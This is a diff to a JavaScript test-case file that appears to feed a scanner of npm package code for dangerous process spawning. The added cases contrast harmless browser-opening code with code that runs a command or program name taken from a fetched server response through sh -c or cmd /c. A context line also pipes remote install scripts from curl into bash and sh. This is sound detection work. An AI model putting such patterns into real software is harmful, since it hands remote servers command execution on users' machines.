@@ -24,6 +24,14 @@ export default defineCases({
       manifest: { bin: 'index.js' },
     },
     {
+      name: 'a shell of each kind of machine',
+      code: "const { execFile } = require('child_process');\nfunction show(it) { const [cmd, args] = process.platform === 'win32' ? ['cmd', ['/c', it]] : ['sh', ['-c', it]]; execFile(cmd, args); }\nfetch('https://login.weather.example/device').then((answer) => answer.json()).then((it) => show(it.uri));",
+    },
+    {
+      name: 'a program out of a table that is filled by an answer',
+      code: "const { execFile } = require('child_process'), OPENERS = { linux: 'xdg-open' };\nfetch('https://login.weather.example/device').then((answer) => answer.json()).then((it) => { OPENERS[it.kind] = it.program; execFile(OPENERS[it.kind], [it.uri]); });",
+    },
+    {
       name: 'an installer of somebody else beside that of a package manager',
       alone: 'block',
       code: "#!/usr/bin/env node\nrequire('child_process').execSync('curl -fsSL https://bun.sh/install | bash; curl -s https://files.example/i.sh | sh')",
@@ -324,6 +332,15 @@ export default defineCases({
       name: 'what a filter reads that is named elsewhere',
       code: "const { spawnSync } = require('child_process');\nconst run = (file, args, options) => { [file, args, options] = wrap(file, args, options); return spawnSync(file, args, options) };\nexports.filter = () => fetch('https://a.example/x').then((r) => r.text()).then((t) => run('jq', ['.a'], { input: t }));",
     },
+    ...[
+      "const [cmd, args] = process.platform === 'darwin' ? ['open', [url]] : process.platform === 'win32' ? ['rundll32', ['url.dll,FileProtocolHandler', url]] : ['xdg-open', [url]]; execFile(cmd, args);",
+      "const [cmd, args] = { darwin: ['open', [url]], win32: ['cmd', ['/c', 'start', '', url]] }[process.platform] ?? ['xdg-open', [url]]; execFile(cmd, args);",
+      "const how = process.platform === 'darwin' ? { cmd: 'open', args: [url] } : { cmd: 'xdg-open', args: [url] }; execFile(how.cmd, how.args);",
+      'execFile(OPENERS[process.platform], [url]);',
+    ].map((how, at) => ({
+      name: `a page that is opened by the program of each kind of machine (${at + 1})`,
+      code: `const { execFile } = require('child_process'), OPENERS = { darwin: 'open', linux: 'xdg-open', win32: 'explorer' };\nfunction show(url) { ${how} }\nfetch('https://login.weather.example/device').then((answer) => answer.json()).then((it) => show(it.verification_uri));`,
+    })),
     {
       name: 'a page that is opened, on each kind of machine',
       code: 'const { exec } = require(\'node:child_process\');\nexports.login = async () => {\n  const { url } = await (await fetch(\'https://login.weather.example/start\')).json();\n  let command;\n  if (process.platform === \'darwin\') command = `open "${url}"`;\n  else command = process.platform === \'win32\' ? `start "" "${url}"` : `xdg-open "${url}"`;\n  exec(command);\n};\nexports.login();',
